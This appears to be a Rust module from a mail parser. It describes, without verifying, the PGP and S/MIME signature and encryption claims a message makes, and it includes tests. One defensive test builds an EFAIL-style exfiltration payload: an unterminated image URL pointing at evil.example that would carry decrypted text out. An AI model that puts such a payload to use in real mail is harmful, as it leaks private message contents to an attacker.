//! What a mail claims of signatures and encryption (OpenPGP: RFC 3156, RFC 9580;
//! S/MIME: RFC 8551), said without believing it.
//!
//! Nothing is verified and nothing decrypted here, so nothing is ever shown as
//! genuine. What can be said honestly is which part of what a reader sees the
//! signature would cover, and that something is closed to this desk.

use serde::{Deserialize, Serialize};

use crate::cms::{self, Cms};
use crate::mime::{Leaf, Node};
use crate::parse::Part;

/// One thing that is to be said about a mail.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Protection {
    /// What it is.
    pub kind: Kind,
    /// By which method.
    pub method: Method,
    /// How much of the mail.
    pub covers: Covers,
}

/// What protects a mail, as it claims.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    /// A signature lies beside the text, or around it as text.
    Signed,
    /// The text is inside a signed file, which could not be opened.
    Wrapped,
    /// The text was inside a signed file, and is shown; the signature is not checked.
    Unwrapped,
    /// Only whoever has the key can read it.
    Encrypted,
    /// It claims to be signed or encrypted, and is not in a way that anybody
    /// could check or open.
    Broken,
}

impl Kind {
    /// The stable word for databases and interfaces.
    pub fn key(self) -> &'static str {
        match self {
            Self::Signed => "signed",
            Self::Wrapped => "wrapped",
            Self::Unwrapped => "unwrapped",
            Self::Encrypted => "encrypted",
            Self::Broken => "broken",
        }
    }
}

/// The two families.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Method {
    /// OpenPGP.
    Pgp,
    /// S/MIME.
    Smime,
}

impl Method {
    /// The stable word for databases and interfaces.
    pub fn key(self) -> &'static str {
        match self {
            Self::Pgp => "pgp",
            Self::Smime => "smime",
        }
    }

    /// As people call it.
    pub fn name(self) -> &'static str {
        match self {
            Self::Pgp => "PGP",
            Self::Smime => "S/MIME",
        }
    }
}

/// How much of what a reader gets to see is meant.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Covers {
    /// Everything: text and files.
    Whole,
    /// There is more than that, from whomever.
    Part,
}

impl Covers {
    /// The stable word for databases and interfaces.
    pub fn key(self) -> &'static str {
        match self {
            Self::Whole => "whole",
            Self::Part => "part",
        }
    }
}

impl Protection {
    /// A sentence for whoever reads the mail.
    pub fn words(&self) -> String {
        let by = self.method.name();
        match (self.kind, self.covers) {
            (Kind::Signed, Covers::Whole) => format!("Signed by {by}, not checked here."),
            (Kind::Signed, Covers::Part) => {
                format!("Only part of this mail is signed (by {by}), and that is not checked here.")
            }
            (Kind::Wrapped, Covers::Whole) => format!(
                "Its content is inside a file signed by {by}, which is neither opened nor checked here."
            ),
            (Kind::Wrapped, Covers::Part) => format!(
                "Part of this mail is inside a file signed by {by}, which is neither opened nor checked here."
            ),
            (Kind::Unwrapped, Covers::Whole) => format!(
                "Its content was inside a file signed by {by} and is shown; the signature is not checked here."
            ),
            (Kind::Unwrapped, Covers::Part) => format!(
                "Part of this mail was inside a file signed by {by} and is shown; the signature is not checked here."
            ),
            (Kind::Encrypted, Covers::Whole) => {
                format!("Encrypted by {by}: only the recipient can read it.")
            }
            (Kind::Encrypted, Covers::Part) => {
                format!("Part of this mail is encrypted by {by}: only the recipient can read it.")
            }
            (Kind::Broken, _) => format!(
                "This mail says that it is protected by {by}, but what that takes is not in it."
            ),
        }
    }
}

/// What a mail claims: each thing once, at most one for each kind and method. `inside` is
/// what was claimed inside signed files that were opened.
pub(crate) fn read(
    root: &Node<'_>,
    text: &str,
    has_html: bool,
    files: &[Part],
    inside: &[Protection],
) -> Vec<Protection> {
    let mut found = Found::default();
    found.node(root, Covers::Whole);
    // It covers no more of the mail than the file that it was in.
    let around = found.all.iter().find(|one| one.kind == Kind::Unwrapped);
    let around = around.map_or(Covers::Part, |one| one.covers);
    for one in inside {
        let covers = match around {
            Covers::Whole => one.covers,
            Covers::Part => Covers::Part,
        };
        found.note(one.kind, one.method, covers);
    }
    if found.all.is_empty() {
        // Armour within the text. An HTML twin or a file is not inside it.
        let alone = !has_html && files.is_empty();
        found.armour(text, alone);
    }
    found.all
}

/// Whether a leaf has anything in it that a reader gets to see.
fn has_content(node: &Node<'_>) -> bool {
    match node {
        Node::Leaf(leaf) => !leaf.is_blank(),
        Node::Multi { children, .. } => children.iter().any(has_content),
    }
}

#[derive(Default)]
struct Found {
    all: Vec<Protection>,
}

impl Found {
    fn note(&mut self, kind: Kind, method: Method, covers: Covers) {
        let same = self
            .all
            .iter_mut()
            .find(|one| one.kind == kind && one.method == method);
        match same {
            // Two of them are two parts.
            Some(one) => one.covers = Covers::Part,
            None => self.all.push(Protection {
                kind,
                method,
                covers,
            }),
        }
    }

    fn node(&mut self, node: &Node<'_>, covers: Covers) {
        match node {
            Node::Leaf(leaf) => self.leaf(leaf, covers),
            Node::Multi {
                subtype,
                protocol,
                children,
            } => match subtype.as_str() {
                "signed" => self.signed(protocol.as_deref(), children, covers),
                "encrypted" => self.encrypted(protocol.as_deref(), children, covers),
                _ => self.children(children, covers),
            },
        }
    }

    /// Of several parts with content, none is the whole.
    fn children(&mut self, children: &[Node<'_>], covers: Covers) {
        let visible = children.iter().filter(|child| has_content(child)).count();
        let covers = if visible > 1 { Covers::Part } else { covers };
        for child in children {
            self.node(child, covers);
        }
    }

    /// RFC 1847, 2.1: two parts, what is signed and the signature.
    fn signed(&mut self, protocol: Option<&str>, children: &[Node<'_>], covers: Covers) {
        let claimed = protocol.and_then(signature_method);
        let signature = match children.get(1) {
            Some(Node::Leaf(leaf)) if !leaf.is_blank() => signature_method(&leaf.media_type),
            _ => None,
        };
        match signature {
            Some(method) if claimed.is_none_or(|claimed| claimed == method) => {
                // What stands behind the signature is not signed.
                let more = children.iter().skip(2).any(has_content);
                let covers = if more { Covers::Part } else { covers };
                self.note(Kind::Signed, method, covers);
                if let Some(content) = children.first() {
                    self.node(content, covers);
                }
                for other in children.iter().skip(2) {
                    self.node(other, Covers::Part);
                }
            }
            found => {
                let method = claimed.or(found).unwrap_or(Method::Pgp);
                self.note(Kind::Broken, method, Covers::Part);
                self.children(children, covers);
            }
        }
    }

    /// RFC 3156, 4: control information, then what is encrypted.
    fn encrypted(&mut self, protocol: Option<&str>, children: &[Node<'_>], covers: Covers) {
        let pgp = protocol.is_none_or(|p| p.eq_ignore_ascii_case("application/pgp-encrypted"));
        let method = if pgp { Method::Pgp } else { Method::Smime };
        let sealed = matches!(children.get(1), Some(Node::Leaf(leaf))
            if !leaf.is_blank() && !leaf.media_type.starts_with("text/html"));
        if sealed {
            let more = children.iter().skip(2).any(has_content);
            let covers = if more { Covers::Part } else { covers };
            self.note(Kind::Encrypted, method, covers);
            for other in children.iter().skip(2) {
                self.node(other, Covers::Part);
            }
        } else {
            self.note(Kind::Broken, method, Covers::Part);
            self.children(children, covers);
        }
    }

    fn leaf(&mut self, leaf: &Leaf<'_>, covers: Covers) {
        let is_cms = matches!(
            leaf.media_type.as_str(),
            "application/pkcs7-mime" | "application/x-pkcs7-mime"
        );
        if !is_cms {
            return;
        }
        let claimed = leaf.smime_type.as_deref().unwrap_or_default();
        let claims = |word: &str| claimed.eq_ignore_ascii_case(word);
        // What the bytes are counts, not what their label says.
        let bytes = leaf.bytes();
        let kind = match cms::kind(&bytes) {
            Some(Cms::Signed) if claims("certs-only") => return,
            Some(Cms::Signed) if cms::signed_content(&bytes).is_some() => Kind::Unwrapped,
            Some(Cms::Signed) => Kind::Wrapped,
            Some(Cms::Encrypted) => Kind::Encrypted,
            Some(Cms::Other) => return,
            None => Kind::Broken,
        };
        self.note(kind, Method::Smime, covers);
    }

    /// Armour in plain text (RFC 9580, 6 and 7). Only whole lines count: what
    /// is quoted has a mark before it.
    fn armour(&mut self, text: &str, alone: bool) {
        let mut outside = false;
        let mut lines = text.lines();
        let mut kinds = Vec::new();
        while let Some(line) = lines.next() {
            match line.trim_end() {
                "-----BEGIN PGP SIGNED MESSAGE-----" => {
                    let mut whole = |end: &str| lines.any(|line| line.trim_end() == end);
                    let ended = whole("-----BEGIN PGP SIGNATURE-----")
                        && whole("-----END PGP SIGNATURE-----");
                    kinds.push(if ended { Kind::Signed } else { Kind::Broken });
                }
                "-----BEGIN PGP MESSAGE-----" => {
                    let ended = lines.any(|line| line.trim_end() == "-----END PGP MESSAGE-----");
                    kinds.push(if ended { Kind::Encrypted } else { Kind::Broken });
                }
                line => outside |= !line.trim().is_empty(),
            }
        }
        let covers = if outside || !alone || kinds.len() > 1 {
            Covers::Part
        } else {
            Covers::Whole
        };
        for kind in kinds {
            self.note(kind, Method::Pgp, covers);
        }
    }
}

fn signature_method(media_type: &str) -> Option<Method> {
    match media_type.trim().to_ascii_lowercase().as_str() {
        "application/pgp-signature" => Some(Method::Pgp),
        "application/pkcs7-signature" | "application/x-pkcs7-signature" => Some(Method::Smime),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::parse::{Limits, parse};

    /// One word for each thing said.
    fn said(raw: &str) -> Vec<String> {
        parse(raw.as_bytes(), &Limits::default())
            .unwrap()
            .protection
            .iter()
            .map(|p| format!("{} {} {}", p.method.key(), p.kind.key(), p.covers.key()))
            .collect()
    }

    fn mail(kind: &str, parts: &[&str]) -> String {
        let mut raw = format!("From: a@x.org\nContent-Type: {kind}; boundary=b\n\n");
        for part in parts {
            raw.push_str(&format!("--b\n{part}\n"));
        }
        raw + "--b--\n"
    }

    const TEXT: &str = "Content-Type: text/plain\n\nPlease restore it.\n";
    const PGP: &str = "Content-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n";
    const SMIME: &str = "Content-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\nMIIB\n";
    const SIGNED_PGP: &str = "multipart/signed; protocol=\"application/pgp-signature\"";
    const SIGNED_SMIME: &str = "multipart/signed; protocol=\"application/pkcs7-signature\"";

    #[test]
    fn a_signature_around_everything_covers_the_whole() {
        assert_eq!(said(&mail(SIGNED_PGP, &[TEXT, PGP])), ["pgp signed whole"]);
        assert_eq!(
            said(&mail(SIGNED_SMIME, &[TEXT, SMIME])),
            ["smime signed whole"]
        );
        // With a file inside what is signed.
        let inner = mail(
            "multipart/mixed",
            &[TEXT, "Content-Type: application/pdf\n\nPDF"],
        )
        .replace("boundary=b", "boundary=i")
        .replace("--b", "--i")
        .replace("From: a@x.org\n", "");
        assert_eq!(
            said(&mail(SIGNED_PGP, &[&inner, PGP])),
            ["pgp signed whole"]
        );
    }

    #[test]
    fn what_is_beside_the_signed_part_makes_it_a_part() {
        let inner = mail(SIGNED_PGP, &[TEXT, PGP])
            .replace("boundary=b", "boundary=i")
            .replace("--b", "--i")
            .replace("From: a@x.org\n", "");
        // A list's footer, a text before, a file, an HTML alternative.
        for other in [
            "Content-Type: text/plain\n\nUnsubscribe here.\n",
            "Content-Type: application/pdf\n\nPDF",
            "Content-Type: text/html\n\n<p>pay 1000</p>",
        ] {
            for kind in [
                "multipart/mixed",
                "multipart/related",
                "multipart/alternative",
            ] {
                assert_eq!(
                    said(&mail(kind, &[&inner, other])),
                    ["pgp signed part"],
                    "{kind} {other}"
                );
                assert_eq!(
                    said(&mail(kind, &[other, &inner])),
                    ["pgp signed part"],
                    "{kind} {other}"
                );
            }
        }
        // An empty part says nothing.
        let blank = "Content-Type: text/plain\n\n \n";
        assert_eq!(
            said(&mail("multipart/mixed", &[blank, &inner, blank])),
            ["pgp signed whole"]
        );
        // Behind the signature, where only careless programs look.
        assert_eq!(
            said(&mail(SIGNED_PGP, &[TEXT, PGP, TEXT])),
            ["pgp signed part"]
        );
    }

    #[test]
    fn a_signature_that_is_not_there_or_of_another_kind_is_none() {
        for parts in [
            &[TEXT][..],
            &[TEXT, TEXT],
            &[TEXT, "Content-Type: application/pgp-signature\n\n  \n"],
            &[PGP, TEXT],
            &[TEXT, SMIME],
        ] {
            assert_eq!(
                said(&mail(SIGNED_PGP, parts)),
                ["pgp broken part"],
                "{parts:?}"
            );
        }
        assert_eq!(
            said(&mail(SIGNED_SMIME, &[TEXT, PGP])),
            ["smime broken part"]
        );
        // A signature as a file beside the text is a file.
        assert!(said(&mail("multipart/mixed", &[TEXT, PGP])).is_empty());
    }

    #[test]
    fn what_is_encrypted_is_closed() {
        let version = "Content-Type: application/pgp-encrypted\n\nVersion: 1\n";
        let sealed = "Content-Type: application/octet-stream; name=encrypted.asc\n\n-----BEGIN PGP MESSAGE-----\n\nx\n-----END PGP MESSAGE-----\n";
        let kind = "multipart/encrypted; protocol=\"application/pgp-encrypted\"";
        assert_eq!(
            said(&mail(kind, &[version, sealed])),
            ["pgp encrypted whole"]
        );
        assert_eq!(said(&mail(kind, &[version])), ["pgp broken part"]);
        assert_eq!(
            said(&mail(kind, &[version, sealed, TEXT])),
            ["pgp encrypted part"]
        );
    }

    /// The bytes decide, whatever the label says.
    #[test]
    fn smime_files_are_what_their_bytes_are() {
        let file = |label: &str, base64: &str| {
            format!(
                "From: a@x.org\nContent-Type: application/pkcs7-mime; {label}name=smime.p7m\n\
                 Content-Transfer-Encoding: base64\n\n{base64}\n"
            )
        };
        // SEQUENCE (long, short, indefinite) { signedData, envelopedData, authEnveloped.
        let signed = "MIIBAAYJKoZIhvcNAQcC";
        let enveloped = "MIAGCSqGSIb3DQEHAw==";
        let modern = "MA0GCyqGSIb3DQEJEAEX";
        for (label, base64, expected) in [
            ("", signed, "smime wrapped whole"),
            ("smime-type=enveloped-data; ", signed, "smime wrapped whole"),
            (
                "smime-type=signed-data; ",
                enveloped,
                "smime encrypted whole",
            ),
            ("", modern, "smime encrypted whole"),
            ("smime-type=enveloped-data; ", "AAAA", "smime broken whole"),
        ] {
            assert_eq!(said(&file(label, base64)), [expected], "{label} {base64}");
        }
        assert!(said(&file("smime-type=certs-only; ", signed)).is_empty());
        // One part of several.
        let part = file("", enveloped).replace("From: a@x.org\n", "");
        assert_eq!(
            said(&mail("multipart/mixed", &[TEXT, &part])),
            ["smime encrypted part"]
        );
        // Signed around encrypted.
        assert_eq!(
            said(&mail(SIGNED_PGP, &[&part, PGP])),
            ["pgp signed whole", "smime encrypted whole"]
        );
    }

    #[test]
    fn armour_in_the_text() {
        let head = "From: a@x.org\n\n";
        let signed = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\nHello\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n";
        let sealed = "-----BEGIN PGP MESSAGE-----\n\nx\n-----END PGP MESSAGE-----\n";
        assert_eq!(said(&format!("{head}{signed}\n\n")), ["pgp signed whole"]);
        assert_eq!(
            said(&format!("{head}Pay 1000.\n{signed}")),
            ["pgp signed part"]
        );
        assert_eq!(
            said(&format!("{head}{signed}Pay 1000.\n")),
            ["pgp signed part"]
        );
        assert_eq!(
            said(&format!("{head}{signed}{signed}")),
            ["pgp signed part"]
        );
        assert_eq!(said(&format!("{head}{sealed}")), ["pgp encrypted whole"]);
        assert_eq!(
            said(&format!(
                "{head}-----BEGIN PGP SIGNED MESSAGE-----\n\nHello\n"
            )),
            ["pgp broken whole"]
        );
        // What somebody quotes was said by another.
        let quoted: String = signed.lines().map(|line| format!("> {line}\n")).collect();
        assert!(said(&format!("{head}{quoted}Thanks\n")).is_empty());
        // The HTML beside it is not inside it.
        assert_eq!(
            said(&mail(
                "multipart/alternative",
                &[
                    &format!("\n{signed}"),
                    "Content-Type: text/html\n\n<p>Pay 1000.</p>"
                ]
            )),
            ["pgp signed part"]
        );
    }

    /// Parts of a mail do not flow into each other: what stands behind an
    /// address that never ends is not sent along when pictures are shown
    /// (EFAIL, CVE-2017-17688).
    #[test]
    fn an_open_address_swallows_nothing() {
        let raw = mail(
            "multipart/mixed",
            &[
                "Content-Type: text/html\n\n<img src=\"https://evil.example/?",
                "Content-Type: text/html\n\n<p>the secret</p>",
                "Content-Type: text/html\n\n\">",
            ],
        );
        let read = parse(raw.as_bytes(), &Limits::default()).unwrap();
        let html = read.html.unwrap();
        assert!(html.contains("<p>the secret</p>"), "{html}");
        assert!(!html.contains("evil.example"), "{html}");
    }

    #[test]
    fn the_words_never_vouch() {
        use super::{Covers, Kind, Method, Protection};
        for kind in [
            Kind::Signed,
            Kind::Wrapped,
            Kind::Unwrapped,
            Kind::Encrypted,
            Kind::Broken,
        ] {
            for method in [Method::Pgp, Method::Smime] {
                for covers in [Covers::Whole, Covers::Part] {
                    let words = Protection {
                        kind,
                        method,
                        covers,
                    }
                    .words();
                    assert!(words.contains(method.name()));
                    for claim in ["valid", "genuine", "verified", "trusted"] {
                        assert!(!words.contains(claim), "{words}");
                    }
                    if matches!(kind, Kind::Signed | Kind::Wrapped | Kind::Unwrapped) {
                        assert!(words.contains("checked here"), "{words}");
                    }
                }
            }
        }
    }
}
